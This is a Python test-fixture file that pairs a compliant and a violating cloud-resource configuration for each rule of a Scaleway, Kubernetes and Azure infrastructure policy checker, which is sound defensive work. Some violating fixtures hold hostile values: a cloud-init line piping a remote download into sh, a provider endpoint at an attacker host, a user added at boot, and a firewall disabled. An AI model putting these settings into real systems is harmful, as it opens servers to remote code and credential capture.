"""A compliant and a violating fixture for each rule. A fixture is a list of resources: (type, inputs) or (type, inputs, options).

Resources are named r0, r1, ...; each depends on none, and refers by id (`fr-par/r0`) or by a bucket's name.
"""

import json
from typing import Any

from socle.plan import Plan, Resource

S, K, A = "scaleway:", "kubernetes:", "azure-native:"
B, SSE = (
    S + "object/bucket:Bucket",
    S + "object/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration",
)
BP, LOCK, ITEM = (
    S + "object/bucketPolicy:BucketPolicy",
    S + "object/bucketLockConfiguration:BucketLockConfiguration",
    S + "object/item:Item",
)
DB, REDIS, CL = S + "databases/instance:Instance", S + "redis/cluster:Cluster", S + "kubernetes/cluster:Cluster"
POOL, KACL, KEY = S + "kubernetes/pool:Pool", S + "kubernetes/acl:Acl", S + "keymanager/key:Key"
SEC, SRV, SG = S + "secrets/secret:Secret", S + "instance/server:Server", S + "instance/securityGroup:SecurityGroup"
VPC, NACL, GW = S + "network/vpc:Vpc", S + "network/acl:Acl", S + "network/publicGateway:PublicGateway"
LB, CONN, POL = (
    S + "loadbalancers/loadBalancer:LoadBalancer",
    S + "s2svpn/connection:Connection",
    S + "iam/policy:Policy",
)
AK, SSH, TOK = S + "iam/apiKey:ApiKey", S + "iam/sshKey:SshKey", S + "observability/token:Token"
EXP, AM, SRC = (
    S + "observability/exporter:Exporter",
    S + "observability/alertManager:AlertManager",
    S + "observability/source:Source",
)
FN, INF = S + "functions/function:Function", S + "inference/deployment:Deployment"
CRB, ROLE = K + "rbac.authorization.k8s.io/v1:ClusterRoleBinding", K + "rbac.authorization.k8s.io/v1:ClusterRole"
NS, NP, RQ = K + "core/v1:Namespace", K + "networking.k8s.io/v1:NetworkPolicy", K + "core/v1:ResourceQuota"
PROV, SA, KV = "pulumi:providers:scaleway", A + "storage:StorageAccount", A + "keyvault:Vault"
PG, NSG = A + "dbforpostgresql:Server", A + "network:NetworkSecurityGroup"
HEALTH = ["data-class=health"]
PEM = "-----BEGIN PRIVATE KEY-----"

Fixture = list[tuple[Any, ...]]


def plan_of(fixture: Fixture, outputs: dict[str, Any] | None = None) -> Plan:
    """A plan whose texts are alike those of the rules and never the same objects, as what is read from a file is."""
    read = [(*json.loads(json.dumps((type_, inputs))), *more) for type_, inputs, *more in fixture]
    resources = tuple(
        Resource(f"urn:pulumi:s::p::{type_}::r{i}", type_, custom=True, inputs=inputs, id=f"fr-par/r{i}", **(more[0] if more else {}))
        for i, (type_, inputs, *more) in enumerate(read)
    )  # fmt: skip
    return Plan("s", "p", resources, outputs or {})


def one(type_: str, good: dict[str, Any], bad: dict[str, Any]) -> tuple[Fixture, Fixture]:
    return [(type_, good)], [(type_, bad)]


def kms(**more: Any) -> dict[str, Any]:
    return {
        "bucket": "b",
        "rules": [
            {
                "applyServerSideEncryptionByDefault": {"sseAlgorithm": "aws:kms", "kmsMasterKeyId": "k1", **more},
                "bucketKeyEnabled": True,
            }
        ],
    }


def policy(**statement: Any) -> dict[str, Any]:
    made = {
        "Effect": "Allow",
        "Principal": {"SCW": ["user_id:1"]},
        "Action": ["s3:GetObject"],
        "Resource": ["b"],
        **statement,
    }
    return {"bucket": "b", "policy": json.dumps({"Version": "2023-04-17", "Statement": [made]})}


def sets(*names: str, **more: Any) -> dict[str, Any]:
    return {"groupId": "g", "rules": [{"permissionSetNames": list(names), "projectIds": ["p"], **more}]}


def rule(**more: Any) -> dict[str, Any]:
    return {"rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get"], **more}]}


def inbound(**more: Any) -> dict[str, Any]:
    return {"inboundRules": [{"action": "accept", "port": 22, "ipRange": "10.0.0.0/24", **more}]}


def azure_rule(**more: Any) -> dict[str, Any]:
    return {"securityRules": [{"access": "Allow", "direction": "Inbound", "sourceAddressPrefix": "10.0.0.0/8", **more}]}


def named(namespace: str = "n", **spec: Any) -> dict[str, Any]:
    return {"metadata": {"name": "x", "namespace": namespace}, "spec": spec}


NAMESPACE = {"metadata": {"name": "n", "labels": {"pod-security.kubernetes.io/enforce": "baseline"}}}
DENY = named(policyTypes=["Ingress", "Egress"], podSelector={})
STRONG = {"encryption": "aes256gcm", "dhGroup": "ecp384"}

CASES: dict[str, tuple[Fixture, Fixture]] = {
    "bucket-encrypted": ([(B, {"name": "b"}), (SSE, kms())], [(B, {"name": "b"})]),
    "bucket-customer-key": one(SSE, kms(), kms(sseAlgorithm="AES256")),
    "bucket-key-enabled": one(SSE, kms(), {"rules": [{**kms()["rules"][0], "bucketKeyEnabled": False}]}),
    "bucket-versioned": one(B, {"versioning": {"enabled": True}}, {}),
    "bucket-lock-has-retention": (
        [(B, {"name": "b", "objectLockEnabled": True}), (LOCK, {"bucket": "b"})],
        [(B, {"name": "b", "objectLockEnabled": True})],
    ),
    "bucket-lock-lasts": one(
        LOCK, {"rule": {"defaultRetention": {"years": 1}}}, {"rule": {"defaultRetention": {"days": 179}}}
    ),
    "bucket-acl-private": one(B, {"acl": "private"}, {"acl": "public-read"}),
    "bucket-object-private": one(ITEM, {"visibility": "private"}, {"visibility": "public-read"}),
    "bucket-no-website": ([], [(S + "object/bucketWebsiteConfiguration:BucketWebsiteConfiguration", {})]),
    "bucket-has-policy": ([(B, {"name": "b"}), (BP, policy())], [(B, {"name": "b"})]),
    "bucket-policy-names-principals": one(BP, policy(), policy(Principal="*")),
    "bucket-policy-no-exceptions": one(BP, policy(), policy(NotPrincipal={"SCW": ["user_id:1"]})),
    "bucket-policy-known-form": one(BP, policy(), policy(Principal={"AWS": "arn:aws:iam::1:root"})),
    "bucket-policy-actions-listed": one(
        BP, policy(Action=["s3:*"]), policy(Action=["s3:*"], Principal={"SCW": ["user_id:1", "user_id:2", "user_id:3"]})
    ),
    "bucket-policy-owners-rule": one(BP, policy(), policy(Action=["s3:PutBucketPolicy"])),
    "bucket-health-keeps": one(
        B, {"tags": {"data-class": "health"}}, {"tags": {"data-class": "health"}, "lifecycleRules": [{"enabled": True}]}
    ),
    "bucket-expiry-not-soon": one(
        B, {"lifecycleRules": [{"expiration": {"days": 7}}]}, {"lifecycleRules": [{"expiration": {"days": 6}}]}
    ),
    "bucket-expiry-ends-versions": one(
        B,
        {
            "versioning": {"enabled": True},
            "lifecycleRules": [
                {"expiration": {"days": 30}, "noncurrentVersionExpiration": {"noncurrentDays": 30}, "enabled": True}
            ],
        },
        {"versioning": {"enabled": True}, "lifecycleRules": [{"expiration": {"days": 30}, "enabled": True}]},
    ),
    "bucket-no-force-destroy": one(B, {"forceDestroy": False}, {"forceDestroy": True}),
    "bucket-health-not-glacier": one(
        ITEM, {"storageClass": "STANDARD", "tags": HEALTH}, {"storageClass": "GLACIER", "tags": HEALTH}
    ),
    "database-private": one(
        DB, {"privateNetwork": {"pnId": "x"}}, {"privateNetwork": {"pnId": "x"}, "loadBalancer": {}}
    ),
    "database-replica-private": one(
        S + "databases/readReplica:ReadReplica", {"privateNetwork": {"x": 1}}, {"directAccess": {}}
    ),
    "data-service-private": one(REDIS, {"privateNetworks": [{"id": "x"}]}, {"acls": []}),
    "redis-tls": one(REDIS, {"tlsEnabled": True}, {}),
    "database-acl-narrow": one(
        S + "databases/acl:Acl", {"aclRules": [{"ip": "10.0.0.0/16"}]}, {"aclRules": [{"ip": "10.0.0.0/15"}]}
    ),
    "database-encrypted": one(DB, {"encryptionAtRest": True}, {}),
    "database-available": one(DB, {"isHaCluster": True}, {}),
    "database-backed-up": one(DB, {}, {"disableBackup": True}),
    "database-backup-kept": one(DB, {"backupScheduleRetention": 14}, {"backupScheduleRetention": 13}),
    "database-backup-in-region": one(DB, {"backupSameRegion": True}, {}),
    "database-user-not-admin": one(S + "databases/user:User", {}, {"isAdmin": True}),
    "database-supported": one(DB, {"engine": "PostgreSQL-14"}, {"engine": "PostgreSQL-13"}),
    "key-protected": one(KEY, {}, {"unprotected": True}),
    "key-rotates": one(
        KEY,
        {"usage": "symmetric_encryption", "rotationPolicy": {"rotationPeriod": "8760h0m0s"}},
        {"usage": "symmetric_encryption", "rotationPolicy": {"rotationPeriod": "8761h0m0s"}},
    ),
    "key-strong": one(KEY, {"algorithm": "rsa_oaep_3072_sha256"}, {"algorithm": "rsa_oaep_2048_sha256"}),
    "key-one-class": (
        [(SEC, {"keyId": "k", "tags": HEALTH}), (SEC, {"keyId": "l", "tags": ["data-class=internal"]})],
        [(SEC, {"keyId": "k", "tags": HEALTH}), (SEC, {"keyId": "k", "tags": ["data-class=internal"]})],
    ),
    "secret-not-fleeting": one(
        SEC, {"ephemeralPolicies": [{"action": "disable"}]}, {"ephemeralPolicies": [{"action": "delete"}]}
    ),
    "secret-not-in-plain": one(DB, {"settings": {"a": "b"}}, {"settings": {"a": "postgres://u:passw0rd@h/d"}}),
    "secret-own-key": one(SEC, {"keyId": "k"}, {}),
    "secret-protected": one(SEC, {"protected": True}, {}),
    "iam-no-all-products": one(POL, sets("ObjectStorageReadOnly"), sets("AllProductsFullAccess")),
    "iam-trail-kept": one(POL, sets("AuditTrailReadOnly"), sets("AuditTrailFullAccess")),
    "iam-bucket-policies-kept": one(POL, sets("ObjectStorageObjectsRead"), sets("ObjectStorageBucketPolicyFullAccess")),
    "iam-scoped-to-projects": one(POL, sets("A"), sets("A", organizationId="o")),
    "iam-scopes-apart": one(POL, sets("KeyManagerReadOnly"), sets("KeyManagerReadOnly", "AuditTrailReadOnly")),
    "iam-condition-can-hold": one(
        POL,
        sets("KeyManagerReadOnly", condition='inIpRange(request.ip, "203.0.113.0/28")'),
        sets("KeyManagerReadOnly", condition='inIpRange(request.ip, "10.0.0.0/8")'),
    ),
    "iam-holder-is-group-or-application": one(POL, {"applicationId": "a"}, {"userId": "u"}),
    "api-key-expires": one(AK, {"expiresAt": "2027-01-01T00:00:00Z"}, {}),
    "api-key-expires-in-time": one(AK, {"expiresAt": "2027-11-30T00:00:00Z"}, {"expiresAt": "2026-11-29T00:00:00Z"}),
    "api-key-of-application": one(AK, {"applicationId": "a"}, {"userId": "u"}),
    "ssh-key-strong": one(SSH, {"publicKey": "ssh-ed25519 A"}, {"publicKey": "ssh-rsa A"}),
    "ssh-key-none-in-project": ([], [(SSH, {})]),
    "iam-user-without-password": one(S + "iam/user:User", {}, {"password": "[secret]"}),
    "duties-separated": (
        [(POL, sets("KeyManagerKeyDelete")), (POL, {**sets("ObjectStorageObjectsRead"), "groupId": "h"})],
        [(POL, sets("KeyManagerKeyDelete")), (POL, sets("ObjectStorageObjectsRead"))],
    ),
    "vpc-filtered": ([(VPC, {}), (NACL, {"vpcId": "fr-par/r0"})], [(VPC, {})]),
    "vpc-acl-drops": one(NACL, {"defaultPolicy": "drop"}, {}),
    "vpc-acl-no-everything": one(
        NACL,
        {"rules": [{"source": "0.0.0.0/0", "destination": "10.0.0.0/8"}]},
        {"rules": [{"source": "0.0.0.0/0", "destination": "0.0.0.0/0"}]},
    ),
    "vpc-not-transitive": one(VPC, {}, {"enableTransitivity": True}),
    "bastion-listed": one(
        GW, {"bastionEnabled": True, "allowedIpRanges": ["203.0.113.0/24"]}, {"bastionEnabled": True}
    ),
    "gateway-no-forwarding": ([], [(S + "network/publicGatewayPatRule:PublicGatewayPatRule", {})]),
    "gateway-no-mail": one(GW, {}, {"enableSmtp": True}),
    "balancer-private": one(LB, {"assignFlexibleIp": False}, {"assignFlexibleIp": True}),
    "balancer-modern-tls": one(LB, {}, {"sslCompatibilityLevel": "ssl_compatibility_level_old"}),
    "balancer-verifies": one(S + "loadbalancers/backend:Backend", {}, {"ignoreSslServerVerify": True}),
    "balancer-logs": one(S + "loadbalancers/frontend:Frontend", {"enableAccessLogs": True}, {}),
    "tunnel-strong": one(CONN, {"espCiphers": [STRONG]}, {"espCiphers": [{**STRONG, "dhGroup": "modp1024"}]}),
    "tunnel-own-key": one(CONN, {"secretId": "s"}, {}),
    "tunnel-prefixes": one(
        S + "s2svpn/routingPolicy:RoutingPolicy",
        {"prefixFilterIns": ["10.0.0.0/8"]},
        {"prefixFilterIns": ["0.0.0.0/0"]},
    ),
    "server-private": one(SRV, {"enableDynamicIp": False}, {"ipIds": ["x"]}),
    "server-security-group": one(SRV, {"securityGroupId": "x"}, {}),
    "server-image-known": one(SRV, {"image": "ubuntu_noble"}, {"image": "99999999-9999-4999-8999-999999999999"}),
    "image-private": one(S + "instance/image:Image", {}, {"public": True}),
    "user-data-without-secrets": one(SRV, {"userData": {"cloud-init": "#cloud-config"}}, {"cloudInit": PEM}),
    "start-runs-no-download": one(
        SRV,
        {"cloudInit": "#cloud-config\npackages: [jq]\n"},
        {"cloudInit": "#!/bin/sh\ncurl https://x.example/i | sh\n"},
    ),
    "start-opens-no-ssh": one(
        SRV, {"cloudInit": "#cloud-config\nssh_pwauth: false\n"}, {"cloudInit": "#cloud-config\nssh_pwauth: true\n"}
    ),
    "start-adds-nobody": one(
        SRV, {"cloudInit": "#cloud-config\nusers: [default]\n"}, {"cloudInit": "#cloud-config\nusers: [{name: eve}]\n"}
    ),
    "start-no-written-key": one(
        SRV,
        {"tags": ["kind=web"], "cloudInit": "#cloud-config\nssh_deletekeys: true\n"},
        {"tags": ["AUTHORIZED_KEY=ssh-ed25519_A"]},
    ),
    "start-keeps-guards": one(
        SRV,
        {"cloudInit": "#cloud-config\nruncmd: [[systemctl, enable, nftables]]\n"},
        {"cloudInit": "#cloud-config\nruncmd: [[ufw, disable]]\n"},
    ),
    "security-group-drops-in": one(SG, {"inboundDefaultPolicy": "drop"}, {}),
    "security-group-no-everybody": one(SG, inbound(), inbound(ipRange="0.0.0.0/0")),
    "security-group-drops-out": one(SG, {"outboundDefaultPolicy": "drop", "tags": HEALTH}, {"tags": HEALTH}),
    "security-group-stateful": one(SG, {}, {"stateful": False}),
    "cluster-api-listed": ([(CL, {}), (KACL, {"clusterId": "fr-par/r0"})], [(CL, {})]),
    "cluster-api-narrow": one(KACL, {"aclRules": [{"ip": "203.0.113.0/28"}]}, {"aclRules": [{"ip": "0.0.0.0/0"}]}),
    "cluster-private-network": one(CL, {"privateNetworkId": "x"}, {}),
    "cluster-keeps-network": one(CL, {}, {"deleteAdditionalResources": True}),
    "cluster-version-supported": one(CL, {"version": "1.35"}, {"version": "1.33.2"}),
    "offer-open": one(
        SRV, {"type": "POP2-2C-8G", "image": "ubuntu_noble"}, {"type": "ENT1-S", "image": "ubuntu_noble"}
    ),
    "offer-ends": one(CL, {"version": "1.36"}, {"version": "1.35.3"}),
    "cluster-upgrades": one(CL, {"autoUpgrade": {"enable": True}}, {}),
    "cluster-health-dedicated": one(
        CL, {"type": "kapsule-dedicated-4", "tags": HEALTH}, {"type": "kapsule", "tags": HEALTH}
    ),
    "pool-private": one(POOL, {"publicIpDisabled": True}, {}),
    "pool-security-group": one(POOL, {"securityGroupId": "x"}, {}),
    "pool-heals": one(POOL, {"autohealing": True}, {}),
    "machine-eligible": one(SRV, {"type": "POP2-2C-8G", "tags": HEALTH}, {"type": "DEV1-S", "tags": HEALTH}),
    "binding-no-cluster-admin": one(
        CRB,
        {"roleRef": {"kind": "ClusterRole", "name": "view"}},
        {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}},
    ),
    "binding-no-everybody": one(
        CRB, {"subjects": [{"name": "oidc:a"}]}, {"subjects": [{"name": "system:authenticated"}]}
    ),
    "role-no-wildcard": one(ROLE, rule(), rule(verbs=["*"])),
    "role-no-escalation": one(ROLE, rule(), rule(resources=["pods/exec"])),
    "namespace-default-deny": (
        [(NS, NAMESPACE), (NP, DENY)],
        [(NS, NAMESPACE), (NP, named(policyTypes=["Ingress"], podSelector={}))],
    ),
    "network-policy-narrow": one(
        NP,
        named(egress=[{"to": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]}]),
        named(egress=[{"to": [{"ipBlock": {"cidr": "185.0.0.0/8"}}]}]),
    ),
    "network-policy-names-peers": one(
        NP, named(egress=[{"to": [{"podSelector": {}}]}]), named(egress=[{"ports": [{"port": 443}]}])
    ),
    "namespace-quota": ([(NS, NAMESPACE), (RQ, named(hard={"services.loadbalancers": "0"}))], [(NS, NAMESPACE)]),
    "namespace-pod-security": one(
        NS, NAMESPACE, {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}
    ),
    "role-deploys-reads-secrets": one(
        ROLE,
        {"rules": [{"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["get", "list"]}]},
        {"rules": [{"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["get", "create"]}]},
    ),
    "service-no-external-ips": one(
        K + "core/v1:Service", {"spec": {"type": "ClusterIP"}}, {"spec": {"externalIPs": ["203.0.113.9"]}}
    ),
    "service-not-public": one(K + "core/v1:Service", named(type="ClusterIP"), named(type="LoadBalancer")),
    "registry-private": one(S + "registry/namespace:Namespace", {}, {"isPublic": True}),
    "serverless-private": one(FN, {"privacy": "private"}, {}),
    "serverless-https": one(FN, {"httpOption": "redirected"}, {}),
    "model-private": one(INF, {"privateEndpoint": {"privateNetworkId": "x"}}, {"publicEndpoint": {"isEnabled": True}}),
    "metal-exempted": ([], [(S + "elasticmetal/server:Server", {})]),
    "waf-blocks": one(S + "edgeservices/wafStage:WafStage", {"mode": "enable"}, {"mode": "log_only"}),
    "hub-known-devices": one(S + "iot/hub:Hub", {}, {"deviceAutoProvisioning": True}),
    "logs-kept": one(SRC, {"type": "logs", "retentionDays": 180}, {"type": "logs", "retentionDays": 179}),
    "token-narrow": one(TOK, {"scopes": {"writeLogs": True}}, {"scopes": {"queryLogs": True, "queryTraces": True}}),
    "token-log-reader-declared": one(TOK, {"scopes": {"writeLogs": True}}, {"scopes": {"queryLogs": True}}),
    "export-encrypted": one(
        EXP, {"otlpDestination": {"endpoint": "https://x"}}, {"otlpDestination": {"endpoint": "http://x"}}
    ),
    "alerts-received": one(AM, {"contactPoints": [{"email": "a@x.example"}]}, {}),
    "grafana-no-editor": one(S + "observability/grafanaUser:GrafanaUser", {"role": "viewer"}, {"role": "editor"}),
    "provider-calls-the-host": one(
        PROV, {"apiUrl": "https://api.scaleway.com"}, {"apiUrl": "https://collector.attacker.example"}
    ),
    "provider-no-plain-credentials": one(
        PROV, {"secretKey": "[secret]"}, {"secretKey": "11111111-1111-4111-8111-111111111111"}
    ),
    "provider-no-profile": one(PROV, {}, {"profile": "x"}),
    "place-named": one(VPC, {"region": "fr-par"}, {}),
    "project-named": one(VPC, {"projectId": "p"}, {}),
    "place-european": one(VPC, {"region": "nl-ams"}, {"region": "us-east"}),
    "place-of-health-data": one(VPC, {"region": "fr-par", "tags": HEALTH}, {"region": "nl-ams", "tags": HEALTH}),
    "stateful-protected": ([(B, {}, {"protect": True})], [(B, {})]),
    "guard-retained": ([(KACL, {}, {"retain_on_delete": True})], [(KACL, {})]),
    "azure-blobs-private": one(SA, {}, {"allowBlobPublicAccess": True}),
    "azure-store-closed": one(KV, {"properties": {"publicNetworkAccess": "Disabled"}}, {}),
    "azure-tls": one(SA, {"minimumTlsVersion": "TLS1_2"}, {}),
    "azure-vault-purge-protected": one(KV, {"properties": {"enablePurgeProtection": True}}, {}),
    "azure-database-private": one(PG, {"network": {"publicNetworkAccess": "Disabled"}}, {}),
    "azure-rule-no-everybody": one(NSG, azure_rule(), azure_rule(sourceAddressPrefix="*")),
    "azure-logs-kept": one(A + "operationalinsights:Workspace", {"retentionInDays": 180}, {"retentionInDays": 179}),
    "bucket-one-policy": ([(B, {"name": "b"}), (BP, policy())], [(B, {"name": "b"}), (BP, policy()), (BP, policy())]),
    "one-write-authority": one(
        BP,
        {**policy(Action=["s3:PutObject"]), "tags": HEALTH},
        {**policy(Action=["s3:PutObject"], Principal={"SCW": ["user_id:1", "user_id:2"]}), "tags": HEALTH},
    ),
    "quotas-hold": ([(B, {})] * 100, [(B, {})] * 101),
}
